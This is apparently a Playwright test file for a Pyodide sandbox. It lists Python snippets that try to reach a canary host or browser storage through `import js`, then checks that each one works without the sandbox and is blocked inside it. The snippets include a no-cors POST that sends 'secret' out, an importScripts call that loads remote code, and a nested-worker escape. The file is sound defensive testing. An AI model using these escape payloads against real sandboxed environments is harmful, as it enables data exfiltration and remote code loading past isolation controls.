import { expect, test } from './fixtures.ts';
import { barePython, sealedPython } from './python.ts';

/** Each reaches the canary or the page's storage through `import js`, and then says `reached`. */
const attacks: Record<string, string> = {
  fetch: `
response = await js.exits.fetch(params["canary"] + "/fetch")
result = "reached" if response.ok else "refused"`,
  'a request that expects no answer': `
options = to_js({"mode": "no-cors", "method": "POST", "body": "secret", "keepalive": True}, dict_converter=js.Object.fromEntries)
await js.exits.fetch(params["canary"] + "/no-cors", options)
result = "reached"`,
  XMLHttpRequest: `
request = js.exits.XMLHttpRequest.new()
request.open("GET", params["canary"] + "/xhr", False)
request.send()
result = "reached" if request.status == 200 else "refused"`,
  importScripts: `
js.exits.importScripts(params["canary"] + "/script.js")
result = "reached"`,
  'a nested worker': `
source = "fetch('" + params["canary"] + "/nested').then(() => postMessage('reached'), () => postMessage('refused'))"
blob = js.Blob.new(to_js([source]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))
worker = js.exits.Worker.new(js.URL.createObjectURL(blob))
heard = asyncio.get_running_loop().create_future()
worker.onmessage = create_proxy(lambda event: heard.set_result(event.data))
worker.onerror = create_proxy(lambda event: heard.set_result("refused"))
result = await heard`,
  IndexedDB: `
request = js.exits.indexedDB.open("attack")
opened = asyncio.get_running_loop().create_future()
request.onsuccess = create_proxy(lambda event: opened.set_result("reached"))
request.onerror = create_proxy(lambda event: opened.set_result("refused"))
result = await opened`,
  'Cache Storage': `
await js.exits.caches.open("attack")
result = "reached"`,
  'the origin private file system': `
await js.navigator.storage.getDirectory()
result = "reached"`,
};

const HEAD = `import asyncio
import js
from pyodide.ffi import create_proxy, to_js
`;

for (const [name, code] of Object.entries(attacks)) {
  test(`import js does not reach out by ${name}`, async ({ barePage, sealedPage, canary }) => {
    const params = { canary: canary.origin };
    const bare = await barePython(barePage, HEAD + code, params);
    expect(bare.result, `the attack must work without the sandbox: ${JSON.stringify(bare.error)}`).toBe('reached');

    canary.hits.length = 0;
    const sealed = await sealedPython(sealedPage, HEAD + code, { params });
    expect(sealed.outcome.result).not.toBe('reached');
    await sealedPage.waitForTimeout(50);
    expect(canary.hits).toEqual([]);
  });
}
